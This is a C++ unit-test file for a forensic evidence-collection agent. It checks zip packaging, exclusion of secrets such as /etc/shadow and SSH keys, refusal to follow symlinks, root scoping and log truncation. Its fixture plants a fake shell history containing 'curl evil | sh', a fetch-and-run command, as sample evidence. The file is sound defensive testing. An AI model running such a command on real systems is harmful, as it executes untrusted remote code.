// The forensic package of a made-up machine, and the zip file that it is.
#include "agent/collect/collect.h"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <minizip/unzip.h>
#include <sys/mman.h>

#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>

#include "agent/collect/zip_writer.h"
#include "base/bytes.h"
#include "crypto/digest.h"
#include "json/json.h"
#include "testing/temporary_folder.h"

namespace reachback::agent {
namespace {

namespace fs = std::filesystem;
using Entries = std::map<std::string, std::string>;

// Read by the library that reads such files.
Entries unzip(int fd) {
  Entries out;
  const std::string path = "/proc/self/fd/" + std::to_string(fd);
  unzFile zip = ::unzOpen64(path.c_str());
  EXPECT_NE(zip, nullptr);
  for (int code = ::unzGoToFirstFile(zip); code == UNZ_OK; code = ::unzGoToNextFile(zip)) {
    char name[512] = {};
    unz_file_info64 info{};
    EXPECT_EQ(::unzGetCurrentFileInfo64(zip, &info, name, sizeof name, nullptr, 0, nullptr, 0),
              UNZ_OK);
    EXPECT_EQ(::unzOpenCurrentFile(zip), UNZ_OK);
    std::string bytes(info.uncompressed_size, '\0');
    EXPECT_EQ(::unzReadCurrentFile(zip, bytes.data(), static_cast<unsigned>(bytes.size())),
              static_cast<int>(bytes.size()));
    EXPECT_EQ(::unzCloseCurrentFile(zip), UNZ_OK) << name << ": its checksum";
    EXPECT_FALSE(out.contains(name)) << name << " is there twice";
    out[name] = std::move(bytes);
  }
  ::unzClose(zip);
  return out;
}

class Collect : public ::testing::Test {
 protected:
  Collect() {
    write("/etc/hostname", "web-01\n");
    write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/sh\n");
    write("/etc/shadow", "root:secret\n");
    write("/var/log/auth.log", "Accepted publickey for ann\n");
    write("/var/log/other.log", "no business of ours\n");
    write("/home/ann/.bash_history", "curl evil | sh\n");
    write("/home/ann/.ssh/id_ed25519", "a private key\n");
    fs::create_directories(root() + "/etc/cron.d/folder");
    fs::create_directories(root() + "/proc");
  }
  std::string root() const { return folder_.path() + "/root"; }
  void write(const std::string& path, const std::string& text) {
    fs::create_directories(fs::path(root() + path).parent_path());
    std::ofstream(root() + path) << text;
  }
  Entries collected(const CollectOrder& order = {}) {
    package_ = Fd(::memfd_create("package", MFD_CLOEXEC));
    auto report = collect_package(order, root(), package_.get());
    EXPECT_TRUE(report.ok()) << report.error().message;
    report_ = report.ok() ? *report : pb::FetchReport();
    return unzip(package_.get());
  }

  testing::TemporaryFolder folder_;
  Fd package_;
  pb::FetchReport report_;
};

TEST_F(Collect, HasWhatTheMachineTellsAndTheFilesThatSayMore) {
  const Entries entries = collected();
  EXPECT_EQ(entries.at("files/etc/hostname"), "web-01\n");
  EXPECT_EQ(entries.at("files/var/log/auth.log"), "Accepted publickey for ann\n");
  EXPECT_EQ(entries.at("files/home/ann/.bash_history"), "curl evil | sh\n");
  EXPECT_NE(entries.at("users.jsonl").find("\"name\":\"ann\""), std::string::npos);
  for (const char* name :
       {"processes.jsonl", "connections.jsonl", "services.jsonl", "scheduledtasks.jsonl",
        "persistence.jsonl", "open_files.jsonl", "notes.txt", "contents.jsonl"}) {
    EXPECT_TRUE(entries.contains(name)) << name;
  }
}

TEST_F(Collect, LeavesOutSecretsAndWhatIsNoBusinessOfAResponder) {
  for (const auto& [name, bytes] : collected()) {
    EXPECT_EQ(bytes.find("root:secret"), std::string::npos) << name;
    EXPECT_EQ(bytes.find("a private key"), std::string::npos) << name;
    EXPECT_EQ(bytes.find("no business"), std::string::npos) << name;
  }
}

TEST_F(Collect, TellsItsNameAndHashAndListsThemOfItsEntries) {
  const Entries entries = collected();
  EXPECT_EQ(report_.path(), "collect-web-01.zip");
  const std::string bytes = read_file("/proc/self/fd/" + std::to_string(package_.get())).value();
  EXPECT_EQ(report_.bytes(), bytes.size());
  EXPECT_EQ(report_.sha256(), as_bytes(crypto::sha256(bytes)));
  EXPECT_EQ(report_.stored_sha256(), report_.sha256());
  std::istringstream lines(entries.at("contents.jsonl"));
  std::string line;
  std::getline(lines, line);
  EXPECT_EQ(json::parse(line)->as_object().at("package").as_string(), "collect-web-01.zip");
  std::size_t listed = 0;
  while (std::getline(lines, line)) {
    const auto entry = json::parse(line)->as_object();
    const std::string& content = entries.at(std::string(entry.at("name").as_string()));
    EXPECT_EQ(entry.at("bytes").to_number<std::size_t>(), content.size());
    EXPECT_EQ(entry.at("sha256").as_string(), to_hex(as_bytes(crypto::sha256(content))));
    ++listed;
  }
  EXPECT_EQ(listed + 1, entries.size()) << "all but the list itself";
}

TEST_F(Collect, DoesNotFollowALinkInSomebodysHome) {
  fs::remove(root() + "/home/ann/.bash_history");
  fs::create_symlink("/etc/shadow", root() + "/home/ann/.bash_history");
  fs::create_symlink("/etc/shadow", root() + "/home/ann/.zsh_history");
  const Entries entries = collected();
  EXPECT_FALSE(entries.contains("files/home/ann/.bash_history"));
  for (const auto& [name, bytes] : entries) {
    EXPECT_EQ(bytes.find("root:secret"), std::string::npos) << name;
  }
  EXPECT_NE(entries.at("notes.txt").find(".zsh_history"), std::string::npos);
}

TEST_F(Collect, KeepsToTheOwnersRootsAndSaysWhatItLeftOut) {
  const Entries entries = collected({{"/var/log"}});
  EXPECT_TRUE(entries.contains("files/var/log/auth.log"));
  EXPECT_FALSE(entries.contains("files/etc/hostname"));
  EXPECT_FALSE(entries.contains("files/home/ann/.bash_history"));
  EXPECT_NE(entries.at("notes.txt").find("NotAllowed: "), std::string::npos);
  EXPECT_TRUE(entries.contains("users.jsonl")) << "what the built-in commands tell is not narrowed";
}

TEST_F(Collect, KeepsTheEndOfALogThatIsTooLarge) {
  write("/var/log/syslog", "");
  fs::resize_file(root() + "/var/log/syslog", kPackageFileBytesMax);
  std::ofstream(root() + "/var/log/syslog", std::ios::app) << "the newest line\n";
  const Entries entries = collected();
  const std::string& log = entries.at("files/var/log/syslog");
  EXPECT_EQ(log.size(), kPackageFileBytesMax);
  EXPECT_TRUE(log.ends_with("the newest line\n"));
  EXPECT_NE(entries.at("notes.txt").find("/var/log/syslog: only the last"), std::string::npos);
}

TEST(ZipWriter, SaysThatTheDiskIsFull) {
  Fd file(::open("/dev/full", O_RDWR | O_CLOEXEC));
  ASSERT_TRUE(file.valid());
  collect::ZipWriter zip(file.get());
  const auto begun = zip.begin("a", Timestamp());
  ASSERT_FALSE(begun.ok());
  EXPECT_EQ(begun.error().code, Errc::storage_full);
  EXPECT_EQ(begun.error().message.substr(0, 9), "DiskFull:");
}

}  // namespace
}  // namespace reachback::agent
